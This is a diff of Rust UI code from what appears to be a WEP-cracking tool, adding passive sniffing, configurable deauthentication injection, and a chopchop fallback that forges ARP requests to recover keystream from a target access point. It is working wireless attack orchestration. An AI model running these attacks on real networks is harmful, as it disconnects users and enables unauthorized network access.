@@ -1,9 +1,6 @@
 use std::{
     rc::Rc,
-    sync::{
-        atomic::{AtomicUsize, Ordering},
-        Arc,
-    },
+    sync::{atomic::AtomicBool, Arc, Mutex},
     thread::JoinHandle,
 };
 
@@ -18,29 +15,70 @@ use ratatui::{
 
 use crate::{
     arp_supplier::ARPSampleSupplier,
+    deauth::{DeauthAttack, DeauthSettings},
     ieee80211::{IEEE80211Monitor, IEEE80211PacketSniffer},
+    keycracker::KeystreamSample,
+    passive_supplier::PassiveSampleSupplier,
+    replay_rate::ReplayRateController,
 };
 
-use super::{draw_ui_widgets, ConfirmationWidget, UIScene};
+use super::{draw_ui_widgets, ConfirmationWidget, DeauthSettingsWidget, UIScene};
 
 enum PreparationStage {
     InitialPrompt(ConfirmationWidget<'static, ()>),
     SecondPrompt(ConfirmationWidget<'static, ()>),
+    DeauthSettings(DeauthSettingsWidget<()>),
     DeniedConfirmation,
     DidConfirm,
 }
 
+#[derive(Clone, Copy)]
+enum PrepStatus {
+    Deauth {
+        attempt: usize,
+        num_frames: usize,
+    },
+    ChopChop {
+        recovered_bytes: usize,
+        num_bytes: usize,
+    },
+    Finished,
+}
+
+pub enum AttackSampleSupplier {
+    ARPReplay(ARPSampleSupplier),
+    Passive(PassiveSampleSupplier),
+}
+
+impl AttackSampleSupplier {
+    pub fn provide_sample(&mut self, should_exit: &AtomicBool) -> Option<KeystreamSample> {
+        match self {
+            AttackSampleSupplier::ARPReplay(prov) => prov.provide_sample(should_exit),
+            AttackSampleSupplier::Passive(prov) => prov.provide_sample(should_exit),
+        }
+    }
+
+    pub fn replay_rate(&self) -> Option<Arc<Mutex<ReplayRateController>>> {
+        match self {
+            AttackSampleSupplier::ARPReplay(prov) => Some(prov.replay_rate()),
+            AttackSampleSupplier::Passive(_) => None,
+        }
+    }
+}
+
 pub struct UIAttackPrep {
     prep_stage: PreparationStage,
 
     monitor: Rc<IEEE80211Monitor>,
     ap_mac: MacAddress,
     dev_mac: MacAddress,
+    passive: bool,
+    deauth_settings: DeauthSettings,
 
     thread: Option<JoinHandle<ieee80211::Frame<'static>>>,
-    prep_attempt: Arc<AtomicUsize>,
+    prep_status: Arc<Mutex<PrepStatus>>,
 
-    callback: Option<Box<dyn FnOnce(ARPSampleSupplier)>>,
+    callback: Option<Box<dyn FnOnce(AttackSampleSupplier)>>,
 }
 
 impl UIAttackPrep {
@@ -48,26 +86,42 @@ impl UIAttackPrep {
         monitor: Rc<IEEE80211Monitor>,
         ap_mac: MacAddress,
         dev_mac: MacAddress,
-        callback: impl FnOnce(ARPSampleSupplier) + 'static,
+        passive: bool,
+        callback: impl FnOnce(AttackSampleSupplier) + 'static,
     ) -> UIAttackPrep {
+        let prompt = if passive {
+            Line::from(vec![
+                "Are you sure you want to passively sniff the traffic of Access Point ".into(),
+                ap_mac.to_hex_string().bold(),
+                "?".into(),
+            ])
+        } else {
+            Line::from(vec![
+                "Are you sure you want to launch an attack on Access Point ".into(),
+                ap_mac.to_hex_string().bold(),
+                " / target device ".into(),
+                dev_mac.to_hex_string().bold(),
+                "?".into(),
+            ])
+        };
+
         UIAttackPrep {
             prep_stage: PreparationStage::InitialPrompt(ConfirmationWidget::new(Text::from(vec![
-                Line::from(vec![
-                    "Are you sure you want to launch an attack on Access Point ".into(),
-                    ap_mac.to_hex_string().bold(),
-                    " / target device ".into(),
-                    dev_mac.to_hex_string().bold(),
-                    "?".into(),
-                ]),
+                prompt,
                 "ONLY CONTINUE IF YOU HAVE THE LEGAL RIGHTS TO DO SO!".into(),
             ]))),
 
             monitor,
             ap_mac,
             dev_mac,
+            passive,
+            deauth_settings: DeauthSettings::default(),
 
             thread: None,
-            prep_attempt: Arc::new(AtomicUsize::new(0)),
+            prep_status: Arc::new(Mutex::new(PrepStatus::Deauth {
+                attempt: 0,
+                num_frames: 0,
+            })),
 
             callback: Some(Box::new(callback)),
         }
@@ -90,33 +144,63 @@ impl UIScene for UIAttackPrep {
             | PreparationStage::SecondPrompt(confirm_widget) => {
                 draw_ui_widgets(&mut [confirm_widget], &(), frame, area);
             }
+            PreparationStage::DeauthSettings(settings_widget) => {
+                draw_ui_widgets(&mut [settings_widget], &(), frame, area);
+            }
             PreparationStage::DeniedConfirmation => {}
 
+            PreparationStage::DidConfirm if self.passive => {
+                //Passive sniffing doesn't need any preparation
+                if let Some(cb) = self.callback.take() {
+                    cb(AttackSampleSupplier::Passive(PassiveSampleSupplier::new(
+                        self.monitor.clone(),
+                        self.ap_mac,
+                    )));
+                }
+            }
             PreparationStage::DidConfirm => {
                 //Check if the thread is done
-                let attempt = self.prep_attempt.load(Ordering::SeqCst);
-                if attempt == usize::MAX {
+                let status = *self.prep_status.lock().expect("failed to lock prep status");
+                if let PrepStatus::Finished = status {
                     if let Some(cb) = self.callback.take() {
-                        cb(ARPSampleSupplier::new(
+                        cb(AttackSampleSupplier::ARPReplay(ARPSampleSupplier::new(
                             self.monitor.clone(),
                             self.dev_mac,
                             self.ap_mac,
                             self.thread.take().unwrap().join().unwrap(),
-                        ))
+                            Some(DeauthAttack::new(
+                                self.ap_mac,
+                                self.dev_mac,
+                                self.deauth_settings,
+                            )),
+                        )))
                     }
                     return;
                 }
 
-                //Draw the attempt counter
-                frame.render_widget(
-                    Paragraph::new(vec![
+                //Draw the attempt counter / chopchop progress
+                let lines = match status {
+                    PrepStatus::Deauth {
+                        attempt,
+                        num_frames,
+                    } => vec![
                         "Attempting to obtain ARP request through deauth injection..."
                             .bold()
                             .into(),
-                        format!("Attempt {attempt}").into(),
-                    ]),
-                    area,
-                )
+                        format!("Attempt {attempt} - {num_frames} frames injected").into(),
+                    ],
+                    PrepStatus::ChopChop {
+                        recovered_bytes,
+                        num_bytes,
+                    } => vec![
+                        "Recovering keystream to forge an ARP request using the chopchop attack..."
+                            .bold()
+                            .into(),
+                        format!("Recovered {recovered_bytes} / {num_bytes} bytes").into(),
+                    ],
+                    PrepStatus::Finished => unreachable!(),
+                };
+                frame.render_widget(Paragraph::new(lines), area)
             }
         }
     }
@@ -137,31 +221,49 @@ impl UIScene for UIAttackPrep {
             }
             PreparationStage::SecondPrompt(confirm_widget) => {
                 if let Some(confirm_res) = confirm_widget.handle_event(event) {
-                    if confirm_res {
-                        //Launch the prep thread
-                        let mut sniffer = self
-                            .monitor
-                            .create_sniffer()
-                            .expect("failed to create packet sniffer for prep thread");
-                        let ap_mac = self.ap_mac;
-                        let dev_mac = self.dev_mac;
-                        let attempt = self.prep_attempt.clone();
-
-                        self.thread = Some(
-                            std::thread::Builder::new()
-                                .name("attack prep thread".into())
-                                .spawn(move || {
-                                    prep_thread_fnc(ap_mac, dev_mac, &mut sniffer, attempt.as_ref())
-                                })
-                                .expect("failed to spawn prep thread"),
-                        );
-
-                        self.prep_stage = PreparationStage::DidConfirm;
+                    self.prep_stage = if confirm_res && self.passive {
+                        PreparationStage::DidConfirm
+                    } else if confirm_res {
+                        PreparationStage::DeauthSettings(DeauthSettingsWidget::new(
+                            self.deauth_settings,
+                        ))
                     } else {
-                        self.prep_stage = PreparationStage::DeniedConfirmation;
+                        PreparationStage::DeniedConfirmation
                     }
                 }
             }
+            PreparationStage::DeauthSettings(settings_widget) => {
+                if let Some(settings) = settings_widget.handle_event(event) {
+                    self.deauth_settings = settings;
+
+                    //Launch the prep thread
+                    let mut sniffer = self
+                        .monitor
+                        .create_sniffer()
+                        .expect("failed to create packet sniffer for prep thread");
+                    let deauth = DeauthAttack::new(self.ap_mac, self.dev_mac, settings);
+                    let ap_mac = self.ap_mac;
+                    let dev_mac = self.dev_mac;
+                    let status = self.prep_status.clone();
+
+                    self.thread = Some(
+                        std::thread::Builder::new()
+                            .name("attack prep thread".into())
+                            .spawn(move || {
+                                prep_thread_fnc(
+                                    ap_mac,
+                                    dev_mac,
+                                    deauth,
+                                    &mut sniffer,
+                                    status.as_ref(),
+                                )
+                            })
+                            .expect("failed to spawn prep thread"),
+                    );
+
+                    self.prep_stage = PreparationStage::DidConfirm;
+                }
+            }
             _ => {}
         }
     }
@@ -170,18 +272,55 @@ impl UIScene for UIAttackPrep {
 fn prep_thread_fnc(
     ap_mac: MacAddress,
     dev_mac: MacAddress,
+    mut deauth: DeauthAttack,
     sniffer: &mut IEEE80211PacketSniffer,
-    attempt: &AtomicUsize,
+    status: &Mutex<PrepStatus>,
 ) -> ieee80211::Frame<'static> {
+    //Fall back to forging an ARP request if the target device doesn't send any after being deauthed
+    const CHOPCHOP_ATTEMPT_INTERVAL: usize = 5;
+
+    let set_status = |new_status| *status.lock().expect("failed to lock prep status") = new_status;
+
+    let mut attempt = 0;
     loop {
-        attempt.fetch_add(1, Ordering::SeqCst);
+        attempt += 1;
+        set_status(PrepStatus::Deauth {
+            attempt,
+            num_frames: deauth.stats().num_frames,
+        });
 
-        if let Some(arp_req) =
-            ARPSampleSupplier::try_capture_arp_request(&ap_mac, &dev_mac, sniffer)
-                .expect("error while trying to capture ARP request")
-        {
-            attempt.store(usize::MAX, Ordering::SeqCst);
+        let arp_req =
+            ARPSampleSupplier::try_capture_arp_request(&ap_mac, &dev_mac, &mut deauth, sniffer)
+                .expect("error while trying to capture ARP request");
+        set_status(PrepStatus::Deauth {
+            attempt,
+            num_frames: deauth.stats().num_frames,
+        });
+
+        if let Some(arp_req) = arp_req {
+            set_status(PrepStatus::Finished);
             return arp_req;
         }
+
+        if attempt % CHOPCHOP_ATTEMPT_INTERVAL == 0 {
+            //The prep thread can't be cancelled, so the attack never has to exit early
+            if let Some(arp_req) = ARPSampleSupplier::forge_chopchop_arp_request(
+                &ap_mac,
+                &dev_mac,
+                sniffer,
+                |recovered_bytes, num_bytes| {
+                    set_status(PrepStatus::ChopChop {
+                        recovered_bytes,
+                        num_bytes,
+                    })
+                },
+                &AtomicBool::new(false),
+            )
+            .expect("error while running chopchop attack")
+            {
+                set_status(PrepStatus::Finished);
+                return arp_req;
+            }
+        }
     }
 }